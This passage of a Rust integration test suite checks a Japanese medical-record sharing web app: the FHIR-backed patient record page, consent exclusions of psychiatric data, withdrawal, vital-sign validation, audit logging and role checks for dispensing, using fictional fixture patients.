//! The patient record page and its contribution forms through a real server, on both
//! backends: what a team member sees (identity, every section with its source facility,
//! Japanese names and codes), how consent exclusions and withdrawal limit another facility,
//! the vital-signs, dispensing, note and attachment forms (validation, nothing stored on a
//! refusal, who may contribute, CSRF), downloads that re-check access, outsiders (404) and
//! the `patient.read` audit record of every view.

mod testkit;

use base64::Engine;
use renkei_domain::audit::{AuditEntry, Outcome};
use renkei_domain::{MemberRole, Profession};
use renkei_storage::testsuite::sample_user;
use renkei_storage::{AuditQuery, NewUser};
use serde_json::{json, Value};
use std::sync::OnceLock;
use testkit::{between, csrf, each_backend, TestApp, PASSWORD, TOTP_SECRET};

const JLAC10: &str = "http://medis.or.jp/CodeSystem/master-JLAC10-17digits";
const HBA1C: &str = "3D046000001906202";
const CREATININE: &str = "3C015000002327101";
const ICD10: &str = "http://jpfhir.jp/fhir/core/mhlw/CodeSystem/ICD10-2013-full";
const YJ: &str = "http://capstandard.jp/iyaku.info/CodeSystem/YJ-code";
const LOINC: &str = "http://loinc.org";
const HOSPITAL: &str = "テスト総合病院";
const OTHER_HOSPITAL: &str = "第二テスト総合病院";
/// A valid 1×1 PNG (one black pixel, correct CRCs).
const PNG: &[u8] = &[
    0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A, 0x00, 0x00, 0x00, 0x0D, 0x49, 0x48, 0x44, 0x52,
    0x00, 0x00, 0x00, 0x01, 0x00, 0x00, 0x00, 0x01, 0x08, 0x00, 0x00, 0x00, 0x00, 0x3A, 0x7E, 0x9B,
    0x55, 0x00, 0x00, 0x00, 0x0A, 0x49, 0x44, 0x41, 0x54, 0x78, 0x9C, 0x63, 0x60, 0x00, 0x00, 0x00,
    0x02, 0x00, 0x01, 0x48, 0xAF, 0xA4, 0x71, 0x00, 0x00, 0x00, 0x00, 0x49, 0x45, 0x4E, 0x44, 0xAE,
    0x42, 0x60, 0x82,
];
const PDF: &[u8] = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n";

// --- helpers ---------------------------------------------------------------------------

async fn get(app: &TestApp, client: &reqwest::Client, path: &str) -> (u16, String) {
    let res = client.get(app.url(path)).send().await.unwrap();
    (res.status().as_u16(), res.text().await.unwrap())
}

/// Posts a form; returns the status, the redirect target (if any) and the body.
async fn post_form(
    app: &TestApp,
    client: &reqwest::Client,
    path: &str,
    form: &[(&str, String)],
) -> (u16, String, String) {
    let res = client.post(app.url(path)).form(form).send().await.unwrap();
    let status = res.status().as_u16();
    let location = res
        .headers()
        .get("location")
        .map(|l| l.to_str().unwrap().to_string())
        .unwrap_or_default();
    (status, location, res.text().await.unwrap())
}

async fn register_named(
    app: &TestApp,
    client: &reqwest::Client,
    local_id: &str,
    given: (&str, &str),
    birth_date: &str,
) -> String {
    let token = csrf(app, client).await;
    let form = [
        ("csrf", token),
        ("local_id", local_id.into()),
        ("family_kanji", "苫小牧".into()),
        ("given_kanji", given.0.into()),
        ("family_kana", "とまこまい".into()),
        ("given_kana", given.1.into()),
        ("birth_date", birth_date.into()),
        ("sex", "female".into()),
        ("postal_code", "053-0022".into()),
        ("address", "北海道苫小牧市表町1丁目2-3".into()),
        ("phone", "0144-32-1111".into()),
        ("care_level", "care2".into()),
    ];
    let (status, location, body) = post_form(app, client, "/patients/new", &form).await;
    assert_eq!(status, 303, "{body}");
    location
        .trim_start_matches("/patients/")
        .split('?')
        .next()
        .unwrap()
        .to_string()
}

/// 苫小牧 花子, born 1938-04-12, registered by the signed-in facility.
async fn register(app: &TestApp, client: &reqwest::Client, local_id: &str) -> String {
    register_named(app, client, local_id, ("花子", "はなこ"), "1938-04-12").await
}

/// A member of the test hospital with the given profession (signs in like the testkit's).
async fn add_staff(app: &TestApp, login: &str, profession: Profession) {
    static HASH: OnceLock<String> = OnceLock::new();
    let hash = HASH
        .get_or_init(|| renkei_domain::password::hash_password(PASSWORD))
        .clone();
    let user = NewUser {
        display_name: format!("テスト {login}"),
        display_name_kana: "テスト".into(),
        profession,
        password_hash: Some(hash),
        totp_secret: Some(TOTP_SECRET.into()),
        recovery_code_hashes: Vec::new(),
        ..sample_user(login, vec![(app.facility_id.clone(), MemberRole::Member)])
    };
    app.store
        .create_user(user, AuditEntry::new("test.seed", Outcome::Success))
        .await
        .unwrap();
}

/// Consent (comprehensive, psychiatric information excluded), the other hospital invited
/// and accepting: it becomes an active team member under a consent in force.
async fn consent_and_join_other(
    app: &TestApp,
    doctor: &reqwest::Client,
    other: &reqwest::Client,
    person: &str,
) {
    let token = csrf(app, doctor).await;
    let (status, _, body) = post_form(
        app,
        doctor,
        &format!("/patients/{person}/consent"),
        &[
            ("csrf", token.clone()),
            ("scope", "comprehensive".into()),
            ("excluded", "psychiatric".into()),
            ("form", "written".into()),
            ("signer", "patient".into()),
        ],
    )
    .await;
    assert_eq!(status, 303, "{body}");
    let (status, _, body) = post_form(
        app,
        doctor,
        &format!("/patients/{person}/team/invite"),
        &[("csrf", token), ("facility", "F00002".into())],
    )
    .await;
    assert_eq!(status, 303, "{body}");
    let other_token = csrf(app, other).await;
    let (status, _, body) = post_form(
        app,
        other,
        &format!("/invitations/{person}"),
        &[("csrf", other_token), ("answer", "accept".into())],
    )
    .await;
    assert_eq!(status, 303, "{body}");
}

async fn withdraw(app: &TestApp, doctor: &reqwest::Client, person: &str) {
    let consent = app.store.current_consent(person).await.unwrap().unwrap();
    let token = csrf(app, doctor).await;
    let (status, _, body) = post_form(
        app,
        doctor,
        &format!("/patients/{person}/consent/{}/withdraw", consent.id),
        &[("csrf", token), ("reason", "本人の申し出".into())],
    )
    .await;
    assert_eq!(status, 303, "{body}");
}

/// `POST /fhir/<type>`; returns the new id.
async fn fhir_create(app: &TestApp, client: &reqwest::Client, resource: Value) -> String {
    let rtype = resource["resourceType"].as_str().unwrap().to_string();
    let res = client
        .post(app.url(&format!("/fhir/{rtype}")))
        .header("content-type", "application/fhir+json")
        .body(resource.to_string())
        .send()
        .await
        .unwrap();
    let status = res.status().as_u16();
    let body: Value = res.json().await.unwrap();
    assert_eq!(status, 201, "{rtype}: {body}");
    body["id"].as_str().unwrap().to_string()
}

/// The resources a FHIR search returns to `client`.
async fn fhir_search(app: &TestApp, client: &reqwest::Client, query: &str) -> Vec<Value> {
    let sep = if query.contains('?') { '&' } else { '?' };
    let res = client
        .get(app.url(&format!("/fhir/{query}{sep}_count=100")))
        .send()
        .await
        .unwrap();
    assert_eq!(res.status(), 200, "{query}");
    let bundle: Value = res.json().await.unwrap();
    bundle["entry"]
        .as_array()
        .cloned()
        .unwrap_or_default()
        .into_iter()
        .map(|e| e["resource"].clone())
        .collect()
}

/// `fhir.create` audit records naming the person: one per stored batch, so "nothing
/// stored" is checked independently of what a search may show.
async fn creates(app: &TestApp, person: &str) -> usize {
    app.store
        .search_audit(&AuditQuery {
            action_prefix: Some("fhir.create".into()),
            patient_id: Some(person.into()),
            limit: 1000,
            ..Default::default()
        })
        .await
        .unwrap()
        .len()
}

/// `patient.read` records of record-page views of the person, by outcome.
async fn page_reads(app: &TestApp, person: &str, outcome: &str) -> usize {
    app.store
        .search_audit(&AuditQuery {
            action_prefix: Some("patient.read".into()),
            patient_id: Some(person.into()),
            outcome: Some(outcome.into()),
            limit: 1000,
            ..Default::default()
        })
        .await
        .unwrap()
        .iter()
        .filter(|r| r.entry.detail.contains("page:/patients/{id}/record\""))
        .count()
}

/// `patient.read` records of the person whose detail names `what`, by outcome.
async fn page_reads_of(app: &TestApp, person: &str, outcome: &str, what: &str) -> usize {
    app.store
        .search_audit(&AuditQuery {
            action_prefix: Some("patient.read".into()),
            patient_id: Some(person.into()),
            outcome: Some(outcome.into()),
            limit: 1000,
            ..Default::default()
        })
        .await
        .unwrap()
        .iter()
        .filter(|r| r.entry.detail.contains(what))
        .count()
}

/// One `<section id="…">` of the record page.
fn section<'a>(html: &'a str, id: &str) -> &'a str {
    let start = html
        .find(&format!("<section id=\"{id}\">"))
        .unwrap_or_else(|| panic!("no section {id} in {html}"));
    let rest = &html[start..];
    &rest[..rest.find("</section>").expect("section closes")]
}

/// The texts of the `class="source"` elements (the facility each item came from).
fn sources(html: &str) -> Vec<String> {
    html.match_indices("class=\"source\">")
        .map(|(i, m)| {
            let rest = &html[i + m.len()..];
            rest[..rest.find('<').unwrap()].to_string()
        })
        .collect()
}

/// The number shown on the summary card of a section.
fn count(html: &str, label: &str) -> usize {
    let card = format!("</span><span>{label}</span></a>");
    let end = html
        .find(&card)
        .unwrap_or_else(|| panic!("no count card {label}"));
    let start = html[..end].rfind("<span class=\"stat\">").unwrap() + 19;
    html[start..end].parse().unwrap()
}

/// The rendered form's error messages.
fn errors(html: &str) -> Vec<String> {
    html.match_indices("<li class=\"error\">")
        .map(|(i, m)| {
            let rest = &html[i + m.len()..];
            rest[..rest.find("</li>").unwrap()].to_string()
        })
        .collect()
}

/// Vital-sign form values, the measurement time and the message expected.
type VitalsCase = (Vec<(&'static str, &'static str)>, String, &'static str);

/// A `datetime-local` value in JST, `minutes` from now.
fn jst_local(minutes: i64) -> String {
    let t = chrono::Utc::now() + chrono::Duration::minutes(minutes);
    t.with_timezone(&chrono::FixedOffset::east_opt(9 * 3600).unwrap())
        .format("%Y-%m-%dT%H:%M")
        .to_string()
}

fn vitals_form(
    csrf: &str,
    at: &str,
    values: &[(&'static str, &str)],
) -> Vec<(&'static str, String)> {
    let mut form = vec![("csrf", csrf.to_string()), ("at", at.to_string())];
    for field in [
        "systolic",
        "diastolic",
        "pulse",
        "spo2",
        "temperature",
        "weight",
        "respiratory_rate",
    ] {
        let v = values
            .iter()
            .find(|(f, _)| *f == field)
            .map(|(_, v)| v.to_string())
            .unwrap_or_default();
        form.push((field, v));
    }
    form
}

fn upload_form(
    csrf: Option<&str>,
    title: &str,
    bytes: Vec<u8>,
    name: &str,
    mime: &str,
) -> reqwest::multipart::Form {
    let mut form = reqwest::multipart::Form::new();
    if let Some(c) = csrf {
        form = form.text("csrf", c.to_string());
    }
    form.text("title", title.to_string()).part(
        "file",
        reqwest::multipart::Part::bytes(bytes)
            .file_name(name.to_string())
            .mime_str(mime)
            .unwrap(),
    )
}

fn subject(person: &str) -> Value {
    json!({ "reference": format!("Patient/{person}") })
}

fn condition(person: &str, code: &str, display: &str, onset: &str) -> Value {
    json!({
        "resourceType": "Condition",
        "clinicalStatus": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/condition-clinical", "code": "active"}]},
        "verificationStatus": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/condition-ver-status", "code": "confirmed"}]},
        "code": {"coding": [{"system": ICD10, "code": code, "display": display}]},
        "subject": subject(person),
        "onsetDateTime": onset,
    })
}

fn lab(
    person: &str,
    code: &str,
    text: &str,
    value: f64,
    unit: &str,
    when: &str,
    range: (f64, f64),
) -> Value {
    json!({
        "resourceType": "Observation",
        "meta": {"profile": ["http://jpfhir.jp/fhir/core/StructureDefinition/JP_Observation_LabResult"]},
        "status": "final",
        "category": [{"coding": [{"system": "http://terminology.hl7.org/CodeSystem/observation-category", "code": "laboratory"}]}],
        "code": {"coding": [{"system": JLAC10, "code": code}], "text": text},
        "subject": subject(person),
        "effectiveDateTime": when,
        "valueQuantity": {"value": value, "unit": unit, "system": "http://unitsofmeasure.org", "code": unit},
        "referenceRange": [{"low": {"value": range.0}, "high": {"value": range.1}}],
    })
}

fn prescription(person: &str) -> Value {
    json!({
        "resourceType": "MedicationRequest",
        "status": "active",
        "intent": "order",
        "medicationCodeableConcept": {"coding": [{"system": YJ, "code": "2171022F1020", "display": "アムロジピン錠5mg"}], "text": "アムロジピン錠5mg"},
        "subject": subject(person),
        "authoredOn": "2026-11-20",
        "dosageInstruction": [{"text": "1日1回朝食後"}],
        "dispenseRequest": {
            "quantity": {"value": 28, "unit": "錠"},
            "expectedSupplyDuration": {"value": 28, "unit": "日", "system": "http://unitsofmeasure.org", "code": "d"}
        }
    })
}

// --- the page and consent ----------------------------------------------------------------

#[tokio::test]
async fn the_team_sees_every_section_with_sources_and_consent_limits_the_other_facility() {
    each_backend(|app| async move {
        let (doctor, _) = app.sign_in("doctor1").await;
        let (other, _) = app.sign_in("otherdoc").await;
        let person = register(&app, &doctor, "R-1").await;
        let url = format!("/patients/{person}/record");

        // What the hospital records through the FHIR API.
        fhir_create(&app, &doctor, condition(&person, "J189", "肺炎", "2026-10-20")).await;
        fhir_create(&app, &doctor, condition(&person, "F329", "うつ病エピソード", "2026-09-01")).await;
        fhir_create(
            &app,
            &doctor,
            json!({
                "resourceType": "AllergyIntolerance",
                "clinicalStatus": {"coding": [{"system": "http://terminology.hl7.org/CodeSystem/allergyintolerance-clinical", "code": "active"}]},
                "category": ["medication"],
                "criticality": "high",
                "code": {"text": "ペニシリン系抗菌薬"},
                "patient": subject(&person),
                "recordedDate": "2026-09-15",
                "reaction": [{"manifestation": [{"text": "蕁麻疹"}], "severity": "severe"}]
            }),
        )
        .await;
        fhir_create(&app, &doctor, prescription(&person)).await;
        fhir_create(
            &app,
            &doctor,
            json!({
                "resourceType": "Encounter",
                "status": "finished",
                "class": {"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": "AMB"},
                "subject": subject(&person),
                "period": {"start": "2026-11-20T10:00:00+09:00", "end": "2026-11-20T10:30:00+09:00"},
                "reasonCode": [{"text": "定期受診"}]
            }),
        )
        .await;
        for (value, when) in [(6.1, "2026-10-01T09:00:00+09:00"), (6.8, "2026-11-01T09:00:00+09:00")] {
            fhir_create(&app, &doctor, lab(&person, HBA1C, "HbA1c（NGSP）", value, "%", when, (4.6, 6.2))).await;
        }

        // Before it joins the team, the other hospital is an outsider: 404 everywhere, and
        // the refusal is audited.
        let other_token = csrf(&app, &other).await;
        let denied_before = page_reads(&app, &person, "denied").await;
        assert_eq!(get(&app, &other, &url).await.0, 404);
        assert_eq!(page_reads(&app, &person, "denied").await, denied_before + 1);
        let (status, _, _) = post_form(
            &app,
            &other,
            &format!("{url}/vitals"),
            &vitals_form(&other_token, &jst_local(-60), &[("pulse", "70")]),
        )
        .await;
        assert_eq!(status, 404);

        consent_and_join_other(&app, &doctor, &other, &person).await;
        // The other hospital adds a result of its own.
        fhir_create(
            &app,
            &other,
            lab(&person, CREATININE, "クレアチニン", 0.92, "mg/dL", "2026-11-15T09:00:00+09:00", (0.46, 0.79)),
        )
        .await;

        // A psychiatric referral letter (labelled PSY): excluded by the consent.
        let letter = fhir_create(
            &app,
            &doctor,
            json!({
                "resourceType": "DocumentReference",
                "meta": {"security": [{"system": "http://terminology.hl7.org/CodeSystem/v3-ActCode", "code": "PSY"}]},
                "status": "current",
                "type": {"text": "診療情報提供書"},
                "subject": subject(&person),
                "date": "2026-11-10T10:00:00+09:00",
                "description": "精神科への紹介状",
                "content": [{"attachment": {
                    "contentType": "text/plain; charset=utf-8",
                    "data": base64::engine::general_purpose::STANDARD.encode("抑うつ状態にて加療中".as_bytes()),
                    "title": "紹介状"
                }}]
            }),
        )
        .await;
        let letter_href = format!("{url}/documents/{letter}");

        // --- the hospital's view: everything, every item with its source --------------
        let reads_before = page_reads(&app, &person, "success").await;
        let (status, page) = get(&app, &doctor, &url).await;
        assert_eq!(status, 200, "{page}");
        assert_eq!(page_reads(&app, &person, "success").await, reads_before + 1, "one audit record per view");
        let head = between(&page, "<h1 id=\"patient-name\">", "</h1>").unwrap();
        assert!(head.contains("苫小牧 花子") && head.contains("トマコマイ"), "{head}");
        assert!(page.contains("1938-04-12（"), "birth date and age");
        assert!(page.contains(&format!("{HOSPITAL} <span class=\"code\">R-1</span>")), "local ID with its facility");

        let conditions = section(&page, "conditions");
        assert!(conditions.contains("肺炎") && conditions.contains("J189"), "{conditions}");
        assert!(conditions.contains("<span class=\"sys\">ICD-10</span>"));
        assert!(conditions.contains("治療中") && conditions.contains("2026-10-20"));
        assert!(conditions.contains("うつ病エピソード"), "the hospital sees its own psychiatric diagnosis");
        assert_eq!(sources(conditions), [HOSPITAL, HOSPITAL]);
        assert_eq!(count(&page, "診断"), 2);

        let allergies = section(&page, "allergies");
        for want in ["ペニシリン系抗菌薬", "薬剤", "蕁麻疹（重度）", "<span class=\"badge withdrawn\">高</span>", "2026-09-15"] {
            assert!(allergies.contains(want), "allergies lack {want}: {allergies}");
        }
        assert_eq!(sources(allergies), [HOSPITAL]);

        let meds = section(&page, "medications");
        for want in ["アムロジピン錠5mg", "<span class=\"sys\">YJ</span> 2171022F1020", "1日1回朝食後", "28 錠", "28日分", "有効", "2026-11-20"] {
            assert!(meds.contains(want), "medications lack {want}: {meds}");
        }
        assert_eq!(sources(meds), [HOSPITAL]);

        let labs = section(&page, "lab");
        assert!(labs.contains("HbA1c（NGSP）") && labs.contains(&format!("<span class=\"sys\">JLAC10</span> {HBA1C}")), "{labs}");
        assert!(labs.contains("クレアチニン") && labs.contains(CREATININE));
        // Columns newest first, the high value flagged, the range shown.
        let columns: Vec<&str> = labs.match_indices("<th class=\"when\">").map(|(i, m)| &labs[i + m.len()..i + m.len() + 10]).collect();
        assert_eq!(columns, ["2026-11-15", "2026-11-01", "2026-10-01"]);
        assert!(labs.contains("6.8<abbr class=\"flag\""), "HbA1c 6.8 above 6.2 is flagged H: {labs}");
        assert!(labs.contains("6.1</span>"), "6.1 is not flagged");
        assert!(labs.contains("4.6–6.2"));
        // Rows by test name (HbA1c, then クレアチニン), each naming its facility.
        assert_eq!(sources(labs), [HOSPITAL, OTHER_HOSPITAL]);
        assert!(labs.contains("<svg class=\"trend\""), "two HbA1c values make a trend chart");
        assert!(labs.contains("aria-label=\"HbA1c（NGSP）（%）: 2026-10-01 – 2026-11-01\""), "{labs}");
        assert_eq!(count(&page, "検査結果"), 3);

        let documents = section(&page, "documents");
        assert!(documents.contains("精神科への紹介状") && documents.contains("抑うつ状態にて加療中"), "{documents}");
        assert_eq!(sources(documents), [HOSPITAL]);
        let res = doctor.get(app.url(&letter_href)).send().await.unwrap();
        assert_eq!(res.status(), 200);
        assert_eq!(res.text().await.unwrap(), "抑うつ状態にて加療中");
        let encounters = section(&page, "encounters");
        assert!(encounters.contains("外来") && encounters.contains("定期受診") && encounters.contains("2026-11-20 10:00 – 2026-11-20 10:30"), "{encounters}");
        assert_eq!(sources(encounters), [HOSPITAL]);
        assert!(page.contains("同意により共有されない情報：精神科に関する情報"));

        // --- the other hospital under the consent: shared, psychiatric excluded ---------
        let (status, page) = get(&app, &other, &url).await;
        assert_eq!(status, 200, "{page}");
        assert!(between(&page, "<h1 id=\"patient-name\">", "</h1>").unwrap().contains("苫小牧 花子"));
        let conditions = section(&page, "conditions");
        assert!(conditions.contains("肺炎"), "{conditions}");
        assert!(!page.contains("うつ病") && !page.contains("F329"), "psychiatric diagnosis excluded by the consent");
        assert_eq!(sources(conditions), [HOSPITAL]);
        assert_eq!(count(&page, "診断"), 1);
        assert!(section(&page, "allergies").contains("ペニシリン系抗菌薬"));
        assert!(section(&page, "medications").contains("アムロジピン錠5mg"));
        assert!(section(&page, "lab").contains("HbA1c（NGSP）") && section(&page, "lab").contains("クレアチニン"));
        assert!(page.contains("同意により共有されない情報：精神科に関する情報"));
        assert!(page.contains("id=\"vitals-form\""), "an active member under a consent may contribute");
        assert!(!page.contains("精神科への紹介状") && !page.contains(&letter), "excluded document not listed");
        assert_eq!(count(&page, "文書・画像"), 0);
        // Asking for it by URL: 404, and the refusal is audited like any other.
        let denied = page_reads_of(&app, &person, "denied", &letter).await;
        assert_eq!(get(&app, &other, &letter_href).await.0, 404);
        assert_eq!(
            page_reads_of(&app, &person, "denied", &letter).await,
            denied + 1,
            "a refused download leaves a denied patient.read record"
        );

        // It records vital signs; the hospital sees them with their source.
        let (status, location, body) = post_form(
            &app,
            &other,
            &format!("{url}/vitals"),
            &vitals_form(&other_token, &jst_local(-30), &[("pulse", "88"), ("temperature", "37.9")]),
        )
        .await;
        assert_eq!(status, 303, "{body}");
        assert_eq!(location, format!("/patients/{person}/record?msg=notice.record_saved#vitals"));
        let vitals = get(&app, &doctor, &url).await.1;
        let vitals = section(&vitals, "vitals");
        assert!(vitals.contains("88") && vitals.contains("37.9"), "{vitals}");
        assert_eq!(sources(vitals), [OTHER_HOSPITAL, OTHER_HOSPITAL]);

        // --- withdrawal: the other hospital keeps only what it recorded ----------------
        withdraw(&app, &doctor, &person).await;
        let (status, page) = get(&app, &other, &url).await;
        assert_eq!(status, 200, "{page}");
        assert!(page.contains("id=\"own-only\""), "{page}");
        assert!(!page.contains("苫小牧") && !page.contains("R-1"), "no identity of the hospital's registration");
        assert!(page.contains("同意がない、または撤回されたため"));
        // (The viewer's own facility, 第二テスト総合病院, contains the hospital's name.)
        let without_own = page.replace(OTHER_HOSPITAL, "");
        for gone in ["肺炎", "ペニシリン", "アムロジピン", "HbA1c", "定期受診", HOSPITAL] {
            assert!(!without_own.contains(gone), "{gone} must not be shown after withdrawal");
        }
        assert!(section(&page, "lab").contains("クレアチニン"), "its own result stays");
        assert!(section(&page, "vitals").contains("37.9"), "its own vital signs stay");
        for form in ["vitals-form", "note-form", "upload-form", "dispense-form"] {
            assert!(!page.contains(&format!("id=\"{form}\"")), "{form} offered after withdrawal");
        }
        let stored = creates(&app, &person).await;
        let (status, _, _) = post_form(
            &app,
            &other,
            &format!("{url}/vitals"),
            &vitals_form(&other_token, &jst_local(-10), &[("pulse", "90")]),
        )
        .await;
        assert_eq!(status, 403, "no contributions after withdrawal");
        assert_eq!(creates(&app, &person).await, stored);
        // The hospital too sees only its own data now.
        let page = get(&app, &doctor, &url).await.1;
        assert!(page.contains("id=\"own-only\"") && page.contains("HbA1c（NGSP）") && page.contains("うつ病エピソード"));
        assert!(!page.contains("クレアチニン") && !section(&page, "vitals").contains("37.9"));
        // The prescription is still the hospital's.
        assert!(section(&page, "medications").contains("アムロジピン錠5mg"));
        assert_eq!(sources(section(&page, "medications")), [HOSPITAL]);
    })
    .await;
}

// --- vital signs -------------------------------------------------------------------------

#[tokio::test]
async fn vital_signs_become_observations_and_implausible_values_store_nothing() {
    each_backend(|app| async move {
        let (nurse, _) = app.sign_in("nurse1").await;
        let person = register(&app, &nurse, "V-1").await;
        let url = format!("/patients/{person}/record");
        let token = csrf(&app, &nurse).await;
        let first = jst_local(-180);
        let second = jst_local(-60);
        let (status, location, body) = post_form(
            &app,
            &nurse,
            &format!("{url}/vitals"),
            &vitals_form(
                &token,
                &first,
                &[
                    ("systolic", "128"),
                    ("diastolic", "76"),
                    ("pulse", "72"),
                    ("spo2", "97"),
                    ("temperature", "36.8"),
                    ("weight", "48.2"),
                    ("respiratory_rate", "16"),
                ],
            ),
        )
        .await;
        assert_eq!(status, 303, "{body}");
        let (_, page) = get(&app, &nurse, &location).await;
        assert!(page.contains("<div class=\"alert ok\" role=\"status\">記録しました。</div>"));
        // Full-width digits as typed on a tablet.
        let (status, _, body) = post_form(
            &app,
            &nurse,
            &format!("{url}/vitals"),
            &vitals_form(
                &token,
                &second,
                &[
                    ("systolic", "１３６"),
                    ("diastolic", "８２"),
                    ("pulse", "80"),
                ],
            ),
        )
        .await;
        assert_eq!(status, 303, "{body}");

        // The Observations, as any FHIR client reads them.
        let observations = fhir_search(
            &app,
            &nurse,
            &format!("Observation?patient={person}&category=vital-signs"),
        )
        .await;
        assert_eq!(observations.len(), 8, "6 + 2 (blood pressure is one panel)");
        let by_code = |code: &str| -> Vec<&Value> {
            observations
                .iter()
                .filter(|o| {
                    o["code"]["coding"]
                        .as_array()
                        .unwrap()
                        .iter()
                        .any(|c| c["system"] == LOINC && c["code"] == code)
                })
                .collect()
        };
        let bp = by_code("85354-9");
        assert_eq!(bp.len(), 2);
        let first_bp = bp
            .iter()
            .find(|o| o["component"][0]["valueQuantity"]["value"] == 128.0)
            .expect("128/76 stored");
        assert_eq!(
            first_bp["component"][0]["code"]["coding"][0]["code"],
            "8480-6"
        );
        assert_eq!(
            first_bp["component"][1]["code"]["coding"][0]["code"],
            "8462-4"
        );
        assert_eq!(first_bp["component"][1]["valueQuantity"]["value"], 76.0);
        assert_eq!(first_bp["component"][1]["valueQuantity"]["code"], "mm[Hg]");
        assert_eq!(first_bp["effectiveDateTime"], format!("{first}:00+09:00"));
        assert_eq!(first_bp["meta"]["source"], "web");
        assert!(bp
            .iter()
            .any(|o| o["component"][0]["valueQuantity"]["value"] == 136.0
                && o["component"][1]["valueQuantity"]["value"] == 82.0));
        assert_eq!(by_code("8867-4").len(), 2);
        let spo2 = by_code("59408-5");
        assert_eq!(spo2.len(), 1);
        assert!(
            by_code("2708-6").len() == 1,
            "SpO2 also coded as arterial saturation"
        );
        assert_eq!(spo2[0]["valueQuantity"]["value"], 97.0);
        let temp = by_code("8310-5");
        assert_eq!(temp[0]["valueQuantity"]["code"], "Cel");
        assert_eq!(temp[0]["valueQuantity"]["value"], 36.8);
        assert_eq!(by_code("29463-7")[0]["valueQuantity"]["code"], "kg");
        assert_eq!(by_code("9279-1")[0]["valueQuantity"]["value"], 16.0);

        // The table (newest column first) and the trend charts.
        let (_, page) = get(&app, &nurse, &url).await;
        let vitals = section(&page, "vitals");
        let columns: Vec<&str> = vitals
            .match_indices("<th class=\"when\">")
            .map(|(i, m)| &vitals[i + m.len()..i + m.len() + 16])
            .collect();
        assert_eq!(columns, [second.replace('T', " "), first.replace('T', " ")]);
        let bp_row = between(vitals, "<th class=\"test\" scope=\"row\">血圧", "</tr>")
            .expect("blood pressure row first");
        assert!(
            bp_row.contains("136/82") && bp_row.contains("128/76"),
            "{bp_row}"
        );
        assert!(vitals.contains("SpO2") && vitals.contains("体温") && vitals.contains("36.8"));
        assert!(
            vitals.contains("aria-label=\"血圧（mmHg）"),
            "blood pressure trend: {vitals}"
        );
        assert!(vitals.contains("aria-label=\"脈拍（/min）"), "pulse trend");
        assert_eq!(
            vitals.matches("<svg class=\"trend\"").count(),
            2,
            "only series with two points are charted"
        );
        assert_eq!(count(&page, "バイタル"), 8);
        assert!(sources(vitals).iter().all(|s| s == HOSPITAL));

        // Implausible input: 400, the form again with its messages and values, nothing stored.
        let stored = creates(&app, &person).await;
        let cases: Vec<VitalsCase> = vec![
            (
                vec![("spo2", "140")],
                jst_local(-5),
                "SpO2：50〜100%の範囲で入力してください。",
            ),
            (
                vec![("systolic", "120")],
                jst_local(-5),
                "血圧は収縮期と拡張期の両方を入力してください。",
            ),
            (
                vec![("diastolic", "80")],
                jst_local(-5),
                "血圧は収縮期と拡張期の両方を入力してください。",
            ),
            (
                vec![("pulse", "70")],
                jst_local(24 * 60),
                "測定日時: 未来の日時は記録できません。",
            ),
            (
                vec![("pulse", "70")],
                "1938-04-01T10:00".into(),
                "測定日時: 生年月日より前の日時は記録できません。",
            ),
            (
                vec![("temperature", "abc")],
                jst_local(-5),
                "体温: 数値で入力してください。",
            ),
            (
                vec![("systolic", "80"), ("diastolic", "120")],
                jst_local(-5),
                "拡張期血圧は収縮期血圧より低い値にしてください。",
            ),
            (
                vec![],
                jst_local(-5),
                "少なくとも1つの項目を入力してください。",
            ),
        ];
        for (values, at, message) in cases {
            // A valid pulse alongside: the whole set is refused, not just the bad value.
            let mut values = values;
            if !values.iter().any(|(f, _)| *f == "pulse") && !values.is_empty() {
                values.push(("pulse", "66"));
            }
            let (status, _, body) = post_form(
                &app,
                &nurse,
                &format!("{url}/vitals"),
                &vitals_form(&token, &at, &values),
            )
            .await;
            assert_eq!(status, 400, "{values:?} at {at}: {body}");
            let errs = errors(&body);
            assert!(errs.iter().any(|e| e == message), "{values:?}: {errs:?}");
            assert!(
                body.contains("id=\"vitals-form\" open"),
                "the form is open again"
            );
            for (field, value) in &values {
                assert!(
                    body.contains(&format!("name=\"{field}\" type=\"text\" inputmode=\""))
                        && body.contains(&format!("value=\"{value}\"")),
                    "{field}={value} kept"
                );
            }
            assert!(body.contains(&format!(
                "id=\"at\" name=\"at\" type=\"datetime-local\" required value=\"{at}\""
            )));
        }
        assert_eq!(creates(&app, &person).await, stored, "nothing stored");
        assert_eq!(
            fhir_search(&app, &nurse, &format!("Observation?patient={person}"))
                .await
                .len(),
            8
        );
    })
    .await;
}

// --- dispensing, notes, roles, CSRF ------------------------------------------------------

#[tokio::test]
async fn dispensing_links_to_the_prescription_notes_are_kept_and_roles_are_checked() {
    each_backend(|app| async move {
        add_staff(&app, "pharm1", Profession::Pharmacist).await;
        add_staff(&app, "muni1", Profession::MunicipalOfficer).await;
        let (doctor, _) = app.sign_in("doctor1").await;
        let (pharmacist, _) = app.sign_in("pharm1").await;
        let person = register(&app, &doctor, "D-1").await;
        let someone_else =
            register_named(&app, &doctor, "D-2", ("次郎", "じろう"), "1950-01-02").await;
        assert_ne!(person, someone_else);
        let url = format!("/patients/{person}/record");
        let request = fhir_create(&app, &doctor, prescription(&person)).await;
        let foreign_request = fhir_create(&app, &doctor, prescription(&someone_else)).await;

        // The pharmacist's page offers the prescription to link to.
        let (status, page) = get(&app, &pharmacist, &url).await;
        assert_eq!(status, 200);
        assert!(page.contains("id=\"dispense-form\""));
        assert!(
            page.contains(&format!(
                "<option value=\"{request}\">2026-11-20 アムロジピン錠5mg（{HOSPITAL}）</option>"
            )),
            "{page}"
        );
        assert!(!page.contains(&foreign_request));
        let token = csrf(&app, &pharmacist).await;
        let handed = jst_local(-20);
        let dispense = |prescription: &str, code: &str| {
            vec![
                ("csrf", token.clone()),
                ("prescription", prescription.to_string()),
                ("drug", "アムロジピン錠5mg「サワイ」".to_string()),
                ("code", code.to_string()),
                ("quantity", "28".to_string()),
                ("unit", "錠".to_string()),
                ("days", "28".to_string()),
                ("dosage", "1日1回 朝食後".to_string()),
                ("handed_over", handed.clone()),
                ("note", "残薬なし。ふらつきに注意".to_string()),
            ]
        };
        // Refusals first: another patient's prescription, a made-up one, a bad code.
        let stored = creates(&app, &person).await;
